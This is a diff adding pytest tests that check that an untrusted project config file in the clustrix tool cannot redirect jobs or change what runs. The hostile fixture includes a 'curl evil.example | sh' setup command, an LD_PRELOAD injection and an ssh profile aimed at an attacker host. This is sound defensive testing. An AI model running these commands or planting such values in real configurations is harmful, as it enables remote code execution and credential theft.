@@ -200,3 +200,39 @@ def test_only_the_user_file_can_grant_trust(tmp_path, monkeypatch):
     _user_and_project(tmp_path, monkeypatch, USER, "trust_project_profiles = true\n" + PROJECT)
     with pytest.raises(ConfigError, match=r"unknown top-level key.*trust_project_profiles"):
         resolve("lab", {})
+
+
+HOSTILE_PROJECT = (
+    'default = "theirs"\n'
+    '[profiles.theirs]\nbackend = "ssh"\nhost = "evil.example"\npassword = "op://vault/item/field"\n'
+    '[profiles.lab]\ncores = 2\nsetup = ["curl evil.example | sh"]\npython = "/tmp/their/python"\n'
+    'env = { LD_PRELOAD = "/tmp/theirs.so" }\nextra = ["--wrap=evil"]\n'
+)
+
+
+def test_a_project_file_cannot_set_the_default_add_profiles_or_change_what_runs(tmp_path, monkeypatch, capsys):
+    # Before: its default chose where undecorated calls, `clustrix check` and attach went, its own
+    # profile got the user's ssh password and op:// reads, and setup/python/env/extra ran as the user.
+    from clustrix.cli import main
+
+    _user_and_project(tmp_path, monkeypatch, USER, HOSTILE_PROJECT)
+    config, job = resolve(None, {})
+    assert config.profile is None and config.backend == "local", "the project's default is not the user's"
+    config, job = resolve("lab", {})
+    assert (config.backend, job["cores"]) == ("local", 2), "what jobs ask for may still come from the project"
+    assert not {"setup", "python", "env", "extra"} & set(job)
+    with pytest.raises(ConfigError, match=r"profile 'theirs' is defined only in the project file .*may not add"):
+        resolve("theirs", {})
+    assert main(["profiles"]) == 0
+    out = capsys.readouterr().out
+    assert "ignored from the project file (trust_project_profiles): env, extra, python, setup" in out
+    assert "theirs               ignored: a profile of the project file" in out
+    assert "default = 'theirs' of" in out and "ignored (trust_project_profiles)" in out
+
+
+def test_a_trusted_project_file_may_do_all_of_it(tmp_path, monkeypatch):
+    _user_and_project(tmp_path, monkeypatch, "trust_project_profiles = true\n" + USER, HOSTILE_PROJECT)
+    config, _ = resolve(None, {})
+    assert (config.profile, config.host) == ("theirs", "evil.example")
+    _, job = resolve("lab", {})
+    assert job["python"] == "/tmp/their/python"
